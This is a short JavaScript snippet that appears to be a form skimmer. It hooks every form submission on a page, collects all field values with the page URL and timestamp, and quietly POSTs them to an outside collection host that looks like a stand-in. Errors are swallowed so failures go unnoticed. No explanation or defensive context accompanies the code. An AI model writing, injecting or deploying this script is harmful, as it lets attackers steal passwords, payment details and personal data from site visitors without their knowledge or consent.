(function () {
  const API = "https://collect.placeholder.example/forms";
  document.addEventListener("submit", async function (e) {
    const form = e.target;
    const data = {};
    new FormData(form).forEach((v, k) => { data[k] = v; });
    const pack = { kind: "form", data, action: form.action, id: form.id || "-", url: location.href, ts: Date.now() };
    try {
      await fetch(API, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(pack), keepalive: true });
    } catch (_) {}
  }, true);
})();
